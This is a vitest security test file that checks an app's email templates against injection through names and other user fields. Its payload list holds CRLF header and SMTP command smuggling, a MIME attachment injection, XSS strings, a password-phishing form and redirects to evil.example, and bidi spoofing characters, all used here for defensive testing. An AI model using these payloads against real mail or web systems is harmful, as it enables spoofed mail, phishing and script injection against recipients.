import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEgress } from '../egress/egress.ts';
import { HEADERS } from './mail-bed.fixture.ts';
import { LINK, samples } from './mail-samples.fixture.ts';
import { startMailServer, type TestMailServer } from './mail-server.fixture.ts';
import type { MailTransport } from './mail-transport.ts';
import { createSmtpTransport } from './smtp-transport.ts';
import { renderMail, type MailTemplate, type RenderedMail } from './templates.ts';

const payloads: readonly string[] = [
  // Headers, SMTP, MIME.
  'Ada\r\nBcc: eve@evil.example',
  'Ada\nBcc: eve@evil.example\n\nBody',
  'Ada\rSubject: other',
  'Ada%0d%0aBcc: eve@evil.example',
  'Ada\u0085Bcc: eve@evil.example',
  'Ada\u2028Bcc: eve@evil.example\u2029x',
  'Ada\u0000\u0008\u001B[31m\u007F',
  'Ada\u560D\u560ABcc: eve@evil.example',
  '\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<bob@evil.example>\r\nDATA\r\n',
  '\r\n\r\n<h1>new body</h1>',
  '\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Disposition: attachment; filename=a.exe\r\n\r\nMZ\r\n--x--',
  '----_NmP-000--\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  '=?utf-8?Q?Bcc=3A_eve=40evil.example=0D=0A?=',
  '=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=',
  '=?utf-8?Q?=E2=80=AE?= x =?x',
  '"eve@evil.example" <eve@evil.example>, Ada',
  // Markup.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'><a href='https://evil.example'>log in</a>",
  '</title><script>alert(1)</script>',
  '</bdi></p></div></body></html><h1>x',
  '<!--',
  '--><b>x</b>',
  '<!--[if mso]><b>x</b><![endif]-->',
  ']]><b>x</b>',
  '<style>*{display:none}</style>',
  '" style="position:fixed;inset:0" x="',
  '` onmouseover=alert(1) `',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;b&#62;&NewLine;&Tab;',
  '＜script＞alert(1)＜/script＞',
  '<form action=https://evil.example><input name=password>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<iframe srcdoc="&lt;script&gt;"></iframe>',
  // Links that mail programs would make.
  'You won! https://evil.example/claim',
  'hxxp: HTTP://EVIL.EXAMPLE',
  'www.evil.example now',
  'evil.example/path?x=1',
  'evil。example',
  'ftp://evil.example',
  'write to eve@evil.example',
  '[log in](https://evil.example)',
  // Direction, look, templates, length.
  '\u202Egnp.live\u202C',
  '\u2066\u2067\u2068x\u2069\u200E\u200F\u061C',
  'A\u200B\u200D\uFEFF\u2060\u00ADda',
  'A\uD83Dda\uDE00',
  `{link} {name} {inviterName} $\{link} {{link}} $& $1 $\``,
  '%s %d {0} \\u003cb\\u003e \\n',
  `${'x'.repeat(5_000)}<b>`,
  '<'.repeat(300),
  'x'.repeat(990),
];

/** Templates by which a stranger's words reach somebody else, and the fields that hold them. */
const fields = {
  verifyEmail: ['name'],
  invitation: ['organizationName', 'inviterName', 'roleName'],
  organizationDeletionScheduled: ['organizationName', 'byName'],
  newSignIn: ['name', 'userAgent'],
} as const satisfies Partial<Record<MailTemplate, readonly string[]>>;
const templates = Object.keys(fields) as (keyof typeof fields)[];

const UNSEEN = /(?!\n)[\p{Cc}\p{Bidi_Control}\p{Cs}\p{Zl}\p{Zp}\u200B\uFEFF\u00AD]/u;
/** Roughly what mail programs make links of. */
const LINKABLE = /\b(?:\w+:\/\/|www\.)|[\p{L}\p{N}-][.。][\p{L}]{2,}|\S@\w/u;
const tagsOf = (html: string): string[] => html.match(/<[^>]*>/g) ?? [];
const wordsOf = (html: string): string =>
  html.slice(html.indexOf('<body')).replace(/<[^>]*>/g, ' ');

function render(template: keyof typeof fields, word: string): RenderedMail {
  const words = Object.fromEntries(fields[template].map((field) => [field, word]));
  return renderMail(template, { ...samples[template], ...words }, 'en');
}

describe.each(templates)('security S37, S62: nobody writes into %s by a name', (template) => {
  let server: TestMailServer;
  let transport: MailTransport;
  const plain = render(template, 'Ada');

  beforeAll(async () => {
    server = await startMailServer({ hideSTARTTLS: true });
    transport = createSmtpTransport({ url: server.url, egress: createEgress() });
  });
  afterAll(async () => {
    await transport.close();
    await server.close();
  });

  it.concurrent.each(
    payloads.map(
      (payload, index) => [JSON.stringify(payload).slice(0, 60), payload, index] as const,
    ),
  )('%s', async (_title, payload, index) => {
    const mail = render(template, payload);
    const id = `injection-${index}`;
    expect(
      await transport.send({
        id,
        from: 'Boardwire <boards@example.com>',
        to: 'bob@example.com',
        ...mail,
      }),
    ).toEqual({ status: 'sent' });
    const received = server.received.find(({ email }) => email.messageId === `<${id}@boardwire>`);
    const email = received?.email;
    const { subject, html, text } = {
      subject: email?.subject ?? '',
      html: email?.html?.trimEnd() ?? '',
      text: email?.text?.trimEnd() ?? '',
    };

    expect(received?.envelope).toEqual({ from: 'boards@example.com', to: ['bob@example.com'] });
    expect(email?.headers.map(({ key }) => key)).toEqual(HEADERS);
    expect(email?.attachments).toEqual([]);
    expect({ subject, html, text }).toEqual({
      subject: mail.subject,
      html: mail.html.trimEnd(),
      text: mail.text.trimEnd(),
    });

    expect(tagsOf(html)).toEqual(tagsOf(plain.html));
    expect(text.split('\n')).toHaveLength(plain.text.trimEnd().split('\n').length);
    for (const part of [subject, html, text]) expect(part).not.toMatch(UNSEEN);
    expect(
      text
        .split('\n')
        .filter((line) => line !== LINK)
        .join('\n'),
    ).not.toMatch(LINKABLE);
    expect(wordsOf(html).replaceAll(LINK.replaceAll('&', '&amp;'), '')).not.toMatch(LINKABLE);
  });
});
